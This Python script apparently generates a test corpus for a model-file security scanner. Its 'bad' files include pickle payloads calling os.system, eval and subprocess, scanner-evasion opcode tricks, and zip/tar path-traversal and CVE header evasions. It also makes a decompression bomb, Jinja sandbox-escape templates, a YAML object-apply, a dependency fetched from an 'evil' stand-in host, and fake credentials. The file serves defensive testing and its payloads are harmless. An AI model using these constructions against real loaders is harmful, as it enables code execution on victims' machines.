"""Makes the scanner's corpus: files that attack whoever loads them, and files as savers write them.

Every payload is harmless: it would print a word. Nothing here is loaded again.

    python tools/scan/generate.py bad     # needs only Python
    python tools/scan/generate.py good    # needs tools/scan/requirements.txt

The two folders are committed, so that the tests need neither. PyTorch is not required: a state
dict is laid out by hand as `torch.save` does, and by `torch.save` itself where it is installed.
"""

import bz2
import gzip
import io
import json
import lzma
import os
import pathlib
import pickle
import random
import struct
import sys
import tarfile
import zipfile
import zlib

CORPUS = pathlib.Path(__file__).parents[2] / "crates/plimsoll-scan/tests/corpus"
EPOCH = (1980, 1, 1, 0, 0, 0)


def call(module, name, *arguments, protocol=2):
    """A pickle that calls what `module.name` names, written opcode by opcode."""
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    words = b"".join(b"X" + struct.pack("<I", len(a)) + a.encode() for a in arguments)
    return head + f"c{module}\n{name}\n".encode() + b"(" + words + b"tR."


def short(text):
    return b"\x8c" + bytes([len(text)]) + text.encode()


PAYLOAD = call("os", "system", "echo harmless")


def zipped(*members, method=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, EPOCH), data, method)
    return buffer.getvalue()


def tarred(*members, mode="w"):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode, format=tarfile.GNU_FORMAT) as archive:
        for member in members:
            name, data = member[:2]
            info = tarfile.TarInfo(name)
            if len(member) == 3:
                info.type, info.linkname = member[2], data
                archive.addfile(info)
            else:
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def gzipped(data):
    return gzip.compress(data, mtime=0)


def patched(data, at, change):
    return data[:at] + change + data[at + len(change):]


def bad_pickles():
    yield "protocol0.pkl", b"cos\nsystem\n(S'echo harmless'\ntR."
    for protocol in (2, 3):
        yield f"protocol{protocol}.pkl", call("os", "system", "echo harmless", protocol=protocol)
    new = short("os") + short("system") + b"\x93" + short("echo harmless") + b"\x85R."
    yield "protocol4.pkl", b"\x80\x04\x95" + struct.pack("<Q", len(new)) + new
    yield "protocol5.pkl", b"\x80\x05\x95" + struct.pack("<Q", len(new)) + new
    yield "posix.pkl", call("posix", "system", "echo harmless")
    yield "builtins_eval.pkl", call("builtins", "eval", "print('harmless')")
    yield "builtins_python2.pkl", call("__builtin__", "eval", "print('harmless')", protocol=0)
    yield "getattr_chain.pkl", call("builtins", "getattr", "os", "system")
    yield "inst.pkl", b"(S'echo harmless'\nios\nsystem\n."
    yield "inst_at_the_end.pkl", b"\x80\x02(ios\nsystem"
    yield "obj.pkl", b"\x80\x02(cos\nsystem\nX\x0d\0\0\0echo harmlesso."
    yield "obj_and_pop.pkl", b"\x80\x02N(cos\nsystem\nX\x0d\0\0\0echo harmlesso0."
    yield "newobj.pkl", b"\x80\x02csubprocess\nPopen\nX\x04\0\0\0true\x85\x81."
    yield "newobj_ex.pkl", b"\x80\x04" + short("subprocess") + short("Popen") + b"\x93)}\x92."
    yield "ext1.pkl", b"\x80\x02\x82\x01)R."
    yield "ext2.pkl", b"\x80\x02\x83\x01\x01)R."
    yield "ext4.pkl", b"\x80\x02\x84\x01\0\0\0)R."
    yield "memo_swap.pkl", b"\x80\x04" + short("collections") + b"\x940" + short("os") + b"q\x00h\x00" + short("system") + b"\x93)R."
    yield "memo_missing.pkl", b"\x80\x04h\x63" + short("system") + b"\x93)R."
    yield "memo_no_text.pkl", b"\x80\x04K\x01\x94h\x00" + short("system") + b"\x93)R."
    yield "computed_name.pkl", b"\x80\x04" + short("os") + b"cbuiltins\nstr\n" + short("system") + b"\x85R\x93)R."
    yield "escaped_name.pkl", b"S'o\\x73'\nS'sys\\164em'\n\x93(S'echo harmless'\ntR."
    yield "unicode_escaped_name.pkl", b"Vo\\u0073\nVsystem\n\x93(tR."
    yield "dotted_through_allowed.pkl", b"\x80\x04" + short("collections") + short("_sys.modules.get") + b"\x93" + short("os") + b"\x85R."
    yield "submodule.pkl", b"\x80\x04" + short("asyncio.unix_events") + short("_UnixSubprocessTransport._start") + b"\x93)R."
    for module, name in (("pip", "main"), ("timeit", "timeit"), ("idlelib.run", "Executive.runcode"), ("cProfile", "run"),
                         ("importlib", "import_module"), ("runpy", "run_path"), ("pty", "spawn"), ("ctypes", "CDLL"),
                         ("operator", "methodcaller"), ("functools", "partial"), ("multiprocessing.util", "spawnv_passfds"),
                         ("joblib", "load"), ("numpy", "load"), ("torch.hub", "load"), ("numpy.testing._private.utils", "runstring"),
                         ("mlflow.projects.backend.local", "_run_entry_point"), ("logging", "FileHandler"), ("pandas", "read_pickle"),
                         ("torch.storage", "_load_from_bytes"), ("torch.utils.collect_env", "run"), ("unittest.mock", "_importer"),
                         ("ensurepip", "_run_pip"), ("pydoc", "pipepager"), ("trace", "Trace.run"), ("code", "InteractiveInterpreter.runcode")):
        yield f"import_{module.replace('.', '_')}.pkl", call(module, name, "harmless")
    yield "import_of_nobody.pkl", call("colleague.helpers", "prepare", "harmless")
    # github.com/protectai/modelscan, issue 330: attributes of an allowed function are forged.
    yield "build_forges.pkl", b"\x80\x04" + short("numpy") + short("log") + b"\x93}" + short("__builtins__") + short("x") + b"sb."
    yield "forged_name.pkl", b"\x80\x04" + short("numpy") + short("size.__builtins__") + b"\x93)R."
    yield "call_of_made.pkl", b"\x80\x02ccollections\nOrderedDict\n)R)R."
    yield "model_of_a_path.pkl", call("lightgbm.basic", "Booster", "/etc/hostname")
    yield "setitem_on_import.pkl", b"\x80\x02ccollections\nOrderedDict\nX\x01\0\0\0aK\x01s."
    yield "codec.pkl", call("_codecs", "encode", "harmless", "rot13")
    yield "persistent_id.pkl", b"\x80\x02X\x04\0\0\0evilQ."
    yield "broken_after_call.pkl", PAYLOAD[:-1] + b"\xff\xff"
    yield "broken_after_header.pkl", b"\x80\x04\x95\x10\0\0\0"
    yield "without_end.pkl", PAYLOAD[:-1]
    yield "second_stream.pkl", pickle.dumps({"a": 1}, 2) + PAYLOAD
    yield "trailing_bytes.pkl", pickle.dumps({"a": 1}, 2) + b"\x00\x01\x02 not a pickle"
    yield "underflow.pkl", b"\x80\x02R."
    yield "protocol_within.pkl", b"\x80\x02N0\x80\x02N."
    yield "frame_across.pkl", b"\x80\x04\x95\x03\0\0\0\0\0\0\0" + short("collections") + b"."
    yield "frame_in_frame.pkl", b"\x80\x04\x95\x0b\0\0\0\0\0\0\0\x95\x02\0\0\0\0\0\0\0N."
    yield "nested_in_bytes.pkl", pickle.dumps({"state": PAYLOAD}, 4)
    yield "huge_bytearray.pkl", b"\x80\x02cbuiltins\nbytearray\nJ\xff\xff\xff\x7f\x85R."
    yield "huge_array.pkl", b"\x80\x02cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nJ\xff\xff\xff\x7f\x85C\x01b\x87R."
    # joblib sees an array; pickle sees its values.
    yield "joblib_values_are_opcodes.joblib", joblib_array(PAYLOAD[2:])


def joblib_array(values):
    """A pickle with an array as joblib writes it, `values` being its raw bytes."""
    dtype = b"cnumpy\ndtype\nX\x02\0\0\0u1K\x00K\x01\x87R(K\x03X\x01\0\0\0|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    state = (b"}(X\x08\0\0\0subclasscnumpy\nndarray\nX\x05\0\0\0shapeJ" + struct.pack("<i", len(values)) + b"\x85"
             + b"X\x05\0\0\0orderX\x01\0\0\0CX\x05\0\0\0dtype" + dtype + b"u")
    return b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + state + b"b" + values + b"."


def bad_containers():
    yield "renamed.xyz", PAYLOAD
    yield "renamed.bin", PAYLOAD
    yield "renamed.model", b"cos\nsystem\n(S'echo harmless'\ntR."
    yield "readme.txt", b"cos\nsystem\n(S'echo harmless'\ntR."
    yield "weights.safetensors", PAYLOAD
    yield "config.json", zipped(("a.pkl", PAYLOAD))
    yield "nested.zip", zipped(("inner.zip", zipped(("deep.zip", zipped(("payload.bin", PAYLOAD))))))
    yield "nested.tar.gz", gzipped(tarred(("m.tar", tarred(("payload.dat", PAYLOAD)))))
    for name, pack in (("gz", gzipped), ("bz2", bz2.compress), ("xz", lzma.compress), ("z", zlib.compress),
                       ("lzma", lambda data: lzma.compress(data, lzma.FORMAT_ALONE))):
        yield f"packed.joblib.{name}", pack(PAYLOAD)
    # An LZ4 frame of one stored block (github.com/lz4/lz4, doc/lz4_Frame_format.md).
    block = struct.pack("<I", len(PAYLOAD) | 1 << 31) + PAYLOAD
    yield "packed.joblib.lz4", b"\x04\x22\x4d\x18\x60\x40\x82" + block + b"\0\0\0\0"
    for name, method in (("deflate", zipfile.ZIP_DEFLATED), ("bzip2", zipfile.ZIP_BZIP2), ("lzma", zipfile.ZIP_LZMA)):
        yield f"method_{name}.zip", zipped(("payload.pkl", PAYLOAD), method=method)
    yield "a.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24)
    plain = zipped(("data.pkl", PAYLOAD))
    central = plain.index(b"PK\x01\x02")
    # CVE-2025-1944: the two headers have other names.
    yield "zip_other_name.pt", patched(plain, 30, b"data.txt")
    # CVE-2025-1945: a flag makes some readers give up.
    for bit in (0x01, 0x20, 0x40):
        yield f"zip_flag_{bit:#x}.pt", patched(patched(plain, 6, bytes([bit])), central + 8, bytes([bit]))
    yield "zip_flag_local.pt", patched(plain, 6, b"\x01")
    # CVE-2025-10156: a wrong checksum makes some readers give up, and PyTorch does not look.
    yield "zip_checksum.pt", patched(patched(plain, 14, b"\0\0\0\0"), central + 16, b"\0\0\0\0")
    yield "zip_no_directory.pt", plain[:central]
    yield "zip_count.pt", patched(plain, len(plain) - 12, b"\x05\x00\x05\x00")
    yield "zip_hidden_member.pt", hidden_member()
    yield "zip_twice.pt", patched_twice()
    yield "zip_after_bytes.bin", b"\0" * 64 + plain
    yield "zip_method.pt", patched(patched(plain, 8, b"\x63\0"), central + 10, b"\x63\0")
    yield "zip_escape.zip", zipped(("../../outside.txt", b"harmless"))
    yield "zip_escape_windows.zip", zipped(("..\\outside.txt", b"harmless"))
    link = zipfile.ZipInfo("link", EPOCH)
    link.external_attr = 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(link, "/etc/hostname")
    yield "zip_symlink.zip", buffer.getvalue()
    yield "tar_escape.tar", tarred(("../outside.txt", b"harmless"))
    yield "tar_absolute.tar", tarred(("/tmp/outside.txt", b"harmless"))
    yield "tar_symlink.tar", tarred(("link", "../outside", tarfile.SYMTYPE))
    yield "tar_hardlink.tar", tarred(("link", "/etc/hostname", tarfile.LNKTYPE))
    yield "tar_device.tar", tarred(("device", "", tarfile.CHRTYPE))
    yield "tar_cut.tar", tarred(("a.txt", b"x" * 2000))[:1024]
    bomb = zlib.compress(bytes(300 << 20), 9)
    yield "bomb.z", zlib.compress(bomb, 9) if len(bomb) > 1 << 20 else bomb
    deep = PAYLOAD
    for _ in range(12):
        deep = gzipped(deep)
    yield "too_deep.gz", deep
    yield "program.so", b"\x7fELF" + bytes(60)
    yield "module.pyc", b"\xa7\x0d\r\n" + bytes(12)
    yield "unknown.bin", random.Random(1).randbytes(256)
    yield "torch_storage_is_pickle.pt", torch_zip({"w": ("0", PAYLOAD)}, lie=True)
    yield "torch_payload.pt", zipped(("archive/data.pkl", PAYLOAD), ("archive/version", b"3\n"))
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    yield "torch_legacy_payload.pt", magic + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + PAYLOAD + pickle.dumps([], 2)
    yield "torch_magic_by_eval.pt", call("builtins", "eval", "0x1950A86A20F9469CFC6C") + pickle.dumps(1001, 2)
    yield "torch_old_tar.pt", tarred(("pickle", PAYLOAD), ("storages", pickle.dumps(0, 2)))
    yield "lambda.npy", npy("|O", b"", "(1,)") + PAYLOAD
    yield "after_the_array.npy", npy("<f8", bytes(8), "(1,)") + PAYLOAD
    yield "objects.npz", zipped(("a.npy", npy("|O", b"", "(1,)") + PAYLOAD))


def hidden_member():
    """A member that only a reader of local headers sees."""
    both = zipped(("hidden.pkl", PAYLOAD), ("readme.txt", b"harmless"))
    start, second = both.index(b"PK\x01\x02"), both.rindex(b"PK\x01\x02")
    end = both.rindex(b"PK\x05\x06")
    directory = both[second:end]
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), start, 0)
    return both[:start] + directory + tail


def patched_twice():
    return zipped(("data.pkl", pickle.dumps({}, 2)), ("data.pkx", PAYLOAD)).replace(b"data.pkx", b"data.pkl")


def npy(descr, data, shape):
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}"
    header += " " * ((64 - (len(header) + 11) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + data


def torch_zip(tensors, lie=False):
    """A state dict as `torch.save` lays it out (torch/serialization.py, `_save`)."""
    body = b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01("
    for name, (key, data) in tensors.items():
        count = len(data) // 4 + (7 if lie else 0)
        text = lambda value: b"X" + struct.pack("<I", len(value)) + value.encode()
        persistent = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text(key) + text("cpu") + b"K" + bytes([count]) + b"tQ"
        rebuilt = (b"ctorch._utils\n_rebuild_tensor_v2\n(" + persistent + b"K\x00K" + bytes([count]) + b"\x85K\x01\x85\x89"
                   + b"ccollections\nOrderedDict\n)RtR")
        body += text(name) + rebuilt
    members = [("archive/data.pkl", body + b"u."), ("archive/byteorder", b"little")]
    members += [(f"archive/data/{key}", data) for key, data in tensors.values()]
    return zipped(*members, ("archive/version", b"3\n"))


def onnx_message(*fields):
    def varint(number):
        out = b""
        while True:
            number, low = number >> 7, number & 127
            out += bytes([low | (128 if number else 0)])
            if not number:
                return out
    out = b""
    for number, value in fields:
        if isinstance(value, int):
            out += varint(number << 3) + varint(value)
        else:
            value = value.encode() if isinstance(value, str) else value
            out += varint(number << 3 | 2) + varint(len(value)) + value
    return out


def onnx(node=(), tensor=()):
    graph = onnx_message((1, onnx_message((4, "Relu"), *node)), (2, "g"), (5, onnx_message((8, "w"), *tensor)))
    return onnx_message((1, 8), (2, "plimsoll"), (7, graph), (8, onnx_message((2, 17))))


def external(location, key="location"):
    return (14, 1), (13, onnx_message((1, key), (2, location)))


def gguf(pairs=(), tensors=()):
    def text(value):
        return struct.pack("<Q", len(value)) + value.encode()
    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(pairs))
    for key, value in pairs:
        out += text(key) + struct.pack("<I", 8) + text(value)
    for name, sides, kind, offset in tensors:
        out += text(name) + struct.pack("<I", len(sides)) + b"".join(struct.pack("<Q", s) for s in sides) + struct.pack("<IQ", kind, offset)
    return out


def safetensors(header, data):
    header = header if isinstance(header, str) else json.dumps(header)
    return struct.pack("<Q", len(header)) + header.encode() + data


def keras_config(layer):
    return json.dumps({"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [layer]}, "registered_name": None})


def bad_formats():
    escapes = {"absolute": "/etc/hostname", "parent": "../weights.bin", "inner": "a/../../weights.bin", "windows": "..\\weights.bin"}
    for name, location in escapes.items():
        yield f"external_{name}.onnx", onnx(tensor=external(location))
    yield "external_attribute.onnx", onnx(tensor=external("x", key="__class__"))
    yield "custom_operator.onnx", onnx(node=((7, "evil.ops"),))
    inner = onnx_message((1, onnx_message((4, "Evil"), (7, "evil.ops"))))
    yield "custom_operator_in_branch.onnx", onnx(node=((5, onnx_message((1, "then_branch"), (6, inner))),))
    yield "cut.onnx", onnx()[:-3]
    code = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA"}}}}
    yield "lambda.keras", zipped(("config.json", keras_config(code)), ("metadata.json", "{}"))
    module = {"module": "shutil", "class_name": "Wrapper", "config": {}, "registered_name": None}
    yield "module.keras", zipped(("config.json", keras_config(module)))
    function = {"module": "keras.src.utils.file_utils", "class_name": "function", "config": "get_file", "registered_name": "function"}
    yield "function.keras", zipped(("config.json", keras_config(function)))
    yield "builtin_function.keras", zipped(("config.json", keras_config({"module": "builtins", "class_name": "function", "config": "eval"})))
    h5 = b"\x89HDF\r\n\x1a\n" + bytes(120) + b"model_config\0" + bytes(11)
    yield "lambda.h5", h5 + keras_config(code).encode() + bytes(40)
    yield "unreadable_description.h5", h5 + b'{"class_name": "Sequential", "config": ' + bytes(40)
    yield "sql.safetensors", safetensors({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 8]}}, bytes(8))
    yield "overlap.safetensors", safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}, "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, bytes(12))
    yield "trailing.safetensors", safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, bytes(8) + PAYLOAD)
    one = '{"dtype":"F32","shape":[2],"data_offsets":[0,8]}'
    yield "twice.safetensors", safetensors(f'{{"a":{one},"a":{one}}}', bytes(8))
    yield "overflow.safetensors", safetensors({"a": {"dtype": "F64", "shape": [2**62, 2**62], "data_offsets": [0, 8]}}, bytes(8))
    yield "template.gguf", gguf([("tokenizer.chat_template", "{{ ''.__class__.__mro__[1].__subclasses__() }}")])
    yield "template_attr.gguf", gguf([("tokenizer.chat_template", "{% set x = cycler|attr('\\x5f\\x5finit\\x5f\\x5f') %}")])
    yield "overflow.gguf", gguf(tensors=[("w", [2**40, 2**40], 0, 0)])
    yield "offset.gguf", gguf(tensors=[("w", [8], 0, 2**40)])
    yield "length.gguf", b"GGUF" + struct.pack("<IQQQ", 3, 0, 1, 2**63)
    yield "tokenizer_config.json", json.dumps({"chat_template": "{{ self.__init__.__globals__ }}"}).encode()
    yield "chat_template.jinja", b"{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}"
    yield "remote_code_config.json", json.dumps({"auto_map": {"AutoModel": "modeling.Evil"}}).encode()
    yield "objects.yaml", b"a: !!python/object/apply:os.system ['echo harmless']\n"
    yield "objects_by_tag.yaml", b"%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ['x']\n"
    yield "mlflow/MLmodel", b"flavors:\n  python_function:\n    loader_module: evil.loader\n"
    yield "requirements.txt", b"--extra-index-url https://packages.example.com/simple\nscikit-learn==1.5.2\n"
    yield "conda.yaml", b"dependencies:\n- pip:\n  - git+https://example.com/evil.git\n"
    saved = onnx_message((2, onnx_message((2, onnx_message((1, onnx_message((1, "n"), (2, "ReadFile"))))))))
    yield "tensorflow/saved_model.pb", b"\x0a\x00" + saved + b"\x00\xff"
    yield "schema.skops", zipped(("schema.json", json.dumps({"__class__": "system", "__module__": "os", "__loader__": "ObjectNode"})))
    key = "AKIA" + "Q" * 16
    yield "secret.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": [f"key = '{key}'\n"], "outputs": []}], "nbformat": 4}).encode()
    token = "hf_" + "a" * 34
    yield "secret_in_output.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": [], "outputs": [{"text": [token]}]}], "nbformat": 4}).encode()
    yield "secret_key.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["-----BEGIN " + "PRIVATE KEY-----\n"], "outputs": []}]}).encode()
    yield "password.yaml", b"password: 'correct-horse-battery'\n"


def bad():
    for group in (bad_pickles, bad_containers, bad_formats):
        for name, data in group():
            yield f"{group.__name__.removeprefix('bad_')}/{name}", data


def good():
    os.environ.setdefault("KERAS_BACKEND", "jax")
    import joblib
    import lightgbm
    import numpy as np
    import sklearn.compose
    import sklearn.ensemble
    import sklearn.gaussian_process
    import sklearn.linear_model
    import sklearn.neighbors
    import sklearn.neural_network
    import sklearn.pipeline
    import sklearn.preprocessing
    import sklearn.svm
    import sklearn.tree
    import xgboost

    random_state = np.random.RandomState(7)
    x = random_state.normal(size=(60, 4))
    y = (x[:, 0] + x[:, 1] ** 2 > 0.5).astype(int)

    def dumped(model, name, **options):
        path = pathlib.Path(name)
        joblib.dump(model, path, **options)
        data = path.read_bytes()
        path.unlink()
        return data

    models = {
        "logistic": sklearn.linear_model.LogisticRegression(),
        "tree": sklearn.tree.DecisionTreeClassifier(max_depth=3, random_state=np.random.RandomState(1)),
        "forest": sklearn.ensemble.RandomForestClassifier(3, max_depth=3, random_state=1),
        "boosting": sklearn.ensemble.GradientBoostingClassifier(n_estimators=3, max_depth=2),
        "hist_boosting": sklearn.ensemble.HistGradientBoostingClassifier(max_iter=3),
        "svm": sklearn.svm.SVC(probability=False),
        "neighbors": sklearn.neighbors.KNeighborsClassifier(3),
        "gaussian_process": sklearn.gaussian_process.GaussianProcessClassifier(1.0 * sklearn.gaussian_process.kernels.RBF(1.0)),
        "perceptron": sklearn.neural_network.MLPClassifier((4,), max_iter=5),
        "pipeline": sklearn.pipeline.make_pipeline(
            sklearn.compose.make_column_transformer((sklearn.preprocessing.StandardScaler(), slice(0, 2)),
                                                    (sklearn.preprocessing.FunctionTransformer(np.log1p), [2]),
                                                    (sklearn.preprocessing.KBinsDiscretizer(3, encode="ordinal"), [3])),
            sklearn.linear_model.SGDClassifier(random_state=1)),
        "xgboost": xgboost.XGBClassifier(n_estimators=2, max_depth=2),
        "lightgbm": lightgbm.LGBMClassifier(n_estimators=2, num_leaves=3, verbose=-1),
    }
    for name, model in models.items():
        model.fit(abs(x), y)
        for protocol in (2, 4, 5) if name in ("tree", "logistic") else (pickle.DEFAULT_PROTOCOL,):
            yield f"{name}.{protocol}.pkl", pickle.dumps(model, protocol)
        yield f"{name}.joblib", dumped(model, "m.joblib")
    for ending in ("gz", "bz2", "xz", "lzma", "z", "lz4"):
        yield f"forest.joblib.{ending}", dumped(models["forest"], f"m.joblib.{ending}")
    yield "text_features.joblib", dumped(sklearn.preprocessing.OneHotEncoder().fit([["a"], ["b"]]), "m.joblib")
    yield "arrays.joblib", dumped({"a": np.arange(5), "b": np.array(["x", None], object), "c": np.ones((2, 2), "f4", "F")}, "m.joblib")
    booster = models["xgboost"].get_booster()
    yield "xgboost.ubj", bytes(booster.save_raw("ubj"))
    yield "xgboost_small.json", (CORPUS.parents[2] / "plimsoll-control/src/tests/small.json").read_bytes()
    yield "xgboost.json", bytes(booster.save_raw("json"))
    yield "lightgbm.txt", models["lightgbm"].booster_.model_to_string().encode()
    yield "booster.pkl", pickle.dumps(models["lightgbm"].booster_)
    yield "plain.pkl", pickle.dumps({"a": [1, 2.5, "x", None, True, (1, 2), {3}, b"bytes", bytearray(b"x"), 2**80]})
    for protocol in (0, 1):
        yield f"protocol{protocol}.pkl", pickle.dumps({"a": [1, 2.5, "x", (1, 2), b"b"]}, protocol)
    for name, array in (("f8", x[:3]), ("text", np.array(["a", "b"])), ("record", np.zeros(2, [("a", "f8"), ("b", "i4")])), ("objects", np.array(["a", 1], object))):
        buffer = io.BytesIO()
        np.save(buffer, array, allow_pickle=True)
        yield f"{name}.npy", buffer.getvalue()
    for save, name in ((np.savez, "stored"), (np.savez_compressed, "deflated")):
        buffer = io.BytesIO()
        save(buffer, a=x[:3], b=y[:3])
        yield f"{name}.npz", buffer.getvalue()
    yield "torch_state_dict_layout.pt", torch_zip({"weight": ("0", struct.pack("<4f", 1, 2, 3, 4)), "bias": ("1", struct.pack("<2f", 1, 2))})
    yield "weights.safetensors", safetensors({"__metadata__": {"format": "pt"}, "a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}, "b": {"dtype": "I64", "shape": [], "data_offsets": [16, 24]}}, bytes(24))
    yield "model.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template", "{% for m in messages %}{{ '<|' + m['role'] + '|>' + m.content }}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}")])
    yield "bundle.tar.gz", gzipped(tarred(("model/logistic.pkl", pickle.dumps(models["logistic"])), ("model/README.md", b"# A model\n")))
    yield "notebook.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["password = os.environ['PASSWORD']\n", "model.fit(x, y)\n"], "outputs": []}], "nbformat": 4}).encode()
    yield "MLmodel", b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    python_version: 3.11.7\n"
    yield "requirements.txt", b"catboost\nnumpy==2.1.0\nscikit-learn==1.5.2\n"
    yield "conda.yaml", b"channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip:\n  - scikit-learn==1.5.2\n"
    yield "data.csv", b"I,N,c\n1,2,3\n"
    yield from good_elsewhere(models, x)


def good_elsewhere(models, x):
    try:
        import skops.io
        yield "logistic.skops", skops.io.dumps(models["logistic"])
        yield "forest.skops", skops.io.dumps(models["forest"])
    except ImportError:
        print("without skops")
    try:
        import skl2onnx
        yield "logistic.onnx", skl2onnx.to_onnx(models["logistic"], x[:1].astype("f4")).SerializeToString()
        yield "forest.onnx", skl2onnx.to_onnx(models["forest"], x[:1].astype("f4")).SerializeToString()
    except ImportError:
        print("without skl2onnx")
    import numpy as np
    import onnx as library
    from onnx import helper, numpy_helper
    weight = numpy_helper.from_array(np.ones((2, 2), "f4"), "w")
    graph = helper.make_graph([helper.make_node("MatMul", ["x", "w"], ["y"])], "g", [helper.make_tensor_value_info("x", 1, [1, 2])],
                              [helper.make_tensor_value_info("y", 1, [1, 2])], [weight])
    model = helper.make_model(graph)
    yield "beside/matmul.onnx", None
    folder = CORPUS / "good" / "beside"
    folder.mkdir(parents=True, exist_ok=True)
    library.save_model(model, folder / "matmul.onnx", save_as_external_data=True, location="matmul.weights", size_threshold=0)
    try:
        import keras
        network = keras.Sequential([keras.layers.Input((4,)), keras.layers.Dense(3, "relu"), keras.layers.Dropout(0.1),
                                    keras.layers.BatchNormalization(), keras.layers.Dense(1, "sigmoid")])
        network.compile("adam", "binary_crossentropy", metrics=["accuracy"])
        for ending in ("keras", "h5"):
            network.save(f"m.{ending}")
            yield f"network.{ending}", pathlib.Path(f"m.{ending}").read_bytes()
            os.unlink(f"m.{ending}")
        inputs = keras.Input((4,))
        functional = keras.Model(inputs, keras.layers.Concatenate()([inputs, keras.layers.LayerNormalization()(inputs)]))
        functional.save("m.keras")
        yield "functional.keras", pathlib.Path("m.keras").read_bytes()
        os.unlink("m.keras")
    except ImportError:
        print("without keras")
    try:
        import torch
        for name, options in (("zip", {}), ("legacy", {"_use_new_zipfile_serialization": False})):
            buffer = io.BytesIO()
            torch.save(torch.nn.Linear(2, 2).state_dict(), buffer, **options)
            yield f"torch_{name}.pt", buffer.getvalue()
    except ImportError:
        print("without torch: the state dict is laid out by hand")


def main():
    for what in sys.argv[1:]:
        count = 0
        for name, data in {"bad": bad, "good": good}[what]():
            count += 1
            if data is None:
                continue
            path = CORPUS / what / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data if isinstance(data, bytes) else data.encode())
        print(f"{what}: {count} files")


main()
